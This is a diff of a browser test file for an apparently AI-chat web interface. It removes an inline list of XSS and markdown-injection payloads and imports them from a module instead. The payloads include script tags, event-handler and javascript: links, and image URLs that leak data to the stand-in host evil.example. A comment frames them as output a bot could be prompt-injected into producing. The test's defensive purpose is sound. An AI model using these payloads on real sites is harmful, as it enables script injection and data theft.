@@ -2,68 +2,10 @@ import { launchBrowser } from '#server/testing/browser.ts'
 import type { Browser, Page } from 'playwright-core'
 import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
 import { done, FakeServer, say } from './testing/fake-server.ts'
+import { PAYLOADS, SOURCES } from './testing/payloads.ts'
 import { visit } from './testing/visit.ts'
 
-// What a bot may be talked into saying, and a page into teaching it. Each would call `attack` or a foreign server.
 const EVIL = 'https://evil.example'
-const PAYLOADS = [
-  '<script>attack()</script>',
-  '<script src="https://evil.example/x.js"></script>',
-  '<img src=x onerror=attack()>',
-  '<img src="https://evil.example/?d=secret">',
-  '<svg/onload=attack()>',
-  '<svg><script>attack()</script></svg>',
-  '<math><mtext><img src=x onerror=attack()></mtext></math>',
-  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
-  '<iframe src="javascript:attack()"></iframe>',
-  '<object data="javascript:attack()"></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/b) }</style>',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '<form action="https://evil.example/"><button autofocus onfocus=attack()>x</button></form>',
-  '<input autofocus onfocus=attack()>',
-  '<details open ontoggle=attack()>x</details>',
-  '<video src=x onerror=attack()></video>',
-  '<a href="javascript:attack()">x</a>',
-  '<b onmouseover="attack()">x</b>',
-  '</div></section><script>attack()</script>',
-  '<!--><img src=x onerror=attack()>-->',
-  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
-  '[x](javascript:attack())',
-  '[x](JaVaScRiPt:attack())',
-  '[x](javascript&colon;attack())',
-  '[x](&#106;avascript:attack())',
-  '[x](java\tscript:attack())',
-  '[x]( javascript:attack())',
-  '[x](<javascript:attack()>)',
-  '[x](\u0001javascript:attack())',
-  '[x](vbscript:attack())',
-  '[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==)',
-  '[x](data:text/html,<script>attack()</script>)',
-  '[x](blob:https://evil.example/1)',
-  '[x](https://shop.example@evil.example/)',
-  '[x](https://a.example/" onmouseover="attack())',
-  '[x" onmouseover="attack()](https://a.example/)',
-  '[![x](https://evil.example/i.png)](javascript:attack())',
-  '![x](https://evil.example/?d=secret)',
-  '![" onerror="attack()](x)',
-  '![x][r]\n\n[r]: https://evil.example/?d=secret',
-  '[x][r]\n\n[r]: javascript:attack()',
-  '<javascript:attack()>',
-  '<https://a.example/"onclick="attack()>',
-  'https://a.example/"onmouseover="attack()',
-  '`<img src=x onerror=attack()>`',
-  '```"><script>attack()</script>\n<img src=x onerror=attack()>\n```',
-  '| <img src=x onerror=attack()> |\n|:-:|\n| <svg/onload=attack()> |',
-  '# <img src=x onerror=attack()>',
-  '- <img src=x onerror=attack()>\n  > <script>attack()</script>',
-]
-const SOURCES = [
-  { title: '<img src=x onerror=attack()>', url: 'javascript:attack()', excerpt: '"><script>attack()</script>' },
-  { title: 'x', url: 'data:text/html,<script>attack()</script>', excerpt: '' },
-]
 
 let browser: Browser
 let server: FakeServer
